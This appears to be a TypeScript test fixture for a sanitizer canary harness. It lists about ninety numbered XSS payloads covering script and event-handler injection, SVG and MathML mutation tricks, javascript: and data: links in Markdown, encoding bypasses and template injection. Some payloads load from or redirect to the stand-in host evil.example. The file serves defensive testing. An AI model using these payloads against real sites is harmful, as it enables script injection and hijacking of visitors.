/**
 * Texts that run as a program, ask another host for something or lead away, wherever a page takes them for markup, for
 * an address or for code. Each has a number, by which `canary.ts` knows what got through.
 */

export interface Payload {
  id: number;
  text: string;
  /** Whether it goes off by itself in a document that takes it for HTML. The tests see that it does. */
  alive: boolean;
}

/** A host that is not there; to be asked for it is to be caught. */
export const FOREIGN = "evil.example";

/** `N` is the payload's number. These go off when they are parsed as HTML. */
const ALIVE = [
  "<script>xss(N)</script>",
  "<img src=x onerror=xss(N)>",
  "<IMG SRC=x OnErRoR=xss(N)>",
  '<img/src="x"/onerror=xss(N)>',
  "<img src=x onerror\n=\n'xss(N)'>",
  "<img src=x onerror=&#120;&#115;&#115;(N)>",
  "<img srcset=x onerror=xss(N)>",
  "<image src=x onerror=xss(N)>",
  "<svg onload=xss(N)>",
  "<svg/onload=xss(N)//>",
  "<svg><script>xss(N)</script></svg>",
  '<svg><script href="data:text/javascript,xss(N)"/></svg>',
  "<svg><animate onbegin=xss(N) attributeName=x dur=1s>",
  "<svg><foreignObject><img src=x onerror=xss(N)>",
  "<math><mi><img src=x onerror=xss(N)>",
  '"><img src=x onerror=xss(N)>',
  "'><svg onload=xss(N)>",
  "--><img src=x onerror=xss(N)>",
  "]]><img src=x onerror=xss(N)>",
  "</title><script>xss(N)</script>",
  "</textarea><script>xss(N)</script>",
  "</style><script>xss(N)</script>",
  "</script><script>xss(N)</script>",
  "</noscript></template><svg onload=xss(N)>",
  '<noscript><p title="</noscript><img src=x onerror=xss(N)>">',
  "<body onload=xss(N)>",
  "<details open ontoggle=xss(N)>",
  "<input autofocus onfocus=xss(N)>",
  "<video><source onerror=xss(N)>",
  "<audio src=x onerror=xss(N)>",
  "<link rel=stylesheet href=x onerror=xss(N)>",
  '<script src="data:text/javascript,xss(N)"></script>',
  "<style>@keyframes x{}</style><b style='animation:x 1ms' onanimationstart=xss(N)>",
  '<iframe srcdoc="<script>parent.xss(N)</script>">',
  '<iframe src="javascript:parent.xss(N)">',
  "<div><template shadowrootmode=open><img src=x onerror=xss(N)></template></div>",
  "<script>alert('xss N')</script>",
  "<script>location='//evil.example/N'</script>",
  "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
  "<img src=//evil.example/N>",
  "<link rel=stylesheet href=//evil.example/N>",
  "<style>@import '//evil.example/N'</style>",
  "<p style='background:url(//evil.example/N)'>x",
  "<video poster=//evil.example/N>",
  "<iframe src=//evil.example/N>",
  "<base href=//evil.example/N/><img src=N>",
  "<script type=module src=//evil.example/N></script>",
];

/** These wait for another reader: Markdown, a click, a template, a parser that mends what it reads, a careless decoder. */
const LATENT = [
  "[a](javascript:xss(N))",
  "[a](JaVaScRiPt:xss(N))",
  "[a](java&#9;script:xss(N))",
  "[a](&#x6A;avascript:xss(N))",
  "[a](\u0001javascript:xss(N))",
  "[a](<javascript:xss(N)>)",
  "<javascript:xss(N)>",
  "[a](vbscript:xss(N))",
  "[a](data:text/html,<script>xss(N)</script>)",
  "[a](data:image/svg+xml,<svg onload=xss(N)>)",
  "[a](blob:xss(N))",
  "[a][N]\n\n[N]: javascript:xss(N)",
  "![a](javascript:xss(N))",
  "![a](//evil.example/N)",
  '![a](https://evil.example/N.png "onerror=xss(N)")',
  '![a](x"onerror="xss(N))',
  '[a](https://h.example/"onmouseover="xss(N))',
  '[a](place:x" onclick="xss(N):1)',
  '```"onclick=xss(N)\n<img src=x onerror=xss(N)>\n```',
  "<a href=javascript:xss(N)>a</a>",
  "<a href='java\nscript:xss(N)'>a</a>",
  "<form action=javascript:xss(N)><button>a</button></form>",
  "<b onmouseover=xss(N)>a</b>",
  "<svg><a xlink:href=javascript:xss(N)><text y=20>a</text></a></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss(N)&gt;">',
  '<svg></p><style><g title="</style><img src=x onerror=xss(N)>">',
  "&lt;img src=x onerror=xss(N)&gt;",
  "%3Cimg src=x onerror=xss(N)%3E",
  "\\u003cimg src=x onerror=xss(N)\\u003e",
  "+ADw-script+AD4-xss(N)+ADw-/script+AD4-",
  "<scr\u0000ipt>xss(N)</script>",
  "\uff1cscript\uff1exss(N)\uff1c/script\uff1e",
  "'-xss(N)-'",
  '";xss(N)//',
  "`$" + "{xss(N)}`",
  "$" + "{xss(N)}",
  "{{constructor.constructor('xss(N)')()}}",
  "<%= xss(N) %>",
  "javascript:xss(N)",
  "\u202e<img src=x onerror=xss(N)>",
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=xss(N)>"}}',
  "\u001b]8;;javascript:xss(N)\u0007a\u001b]8;;\u0007",
  "\r\nContent-Type: text/html\r\n\r\n<script>xss(N)</script>",
];

export const PAYLOADS: readonly Payload[] = [
  ...ALIVE.map((text) => ({ text, alive: true })),
  ...LATENT.map((text) => ({ text, alive: false })),
].map(({ text, alive }, at) => ({ id: at + 100, text: text.replaceAll("N", `${at + 100}`), alive }));

/** Those that fit where people may write so many characters. */
export const upTo = (length: number) => PAYLOADS.filter(({ text }) => text.length <= length);
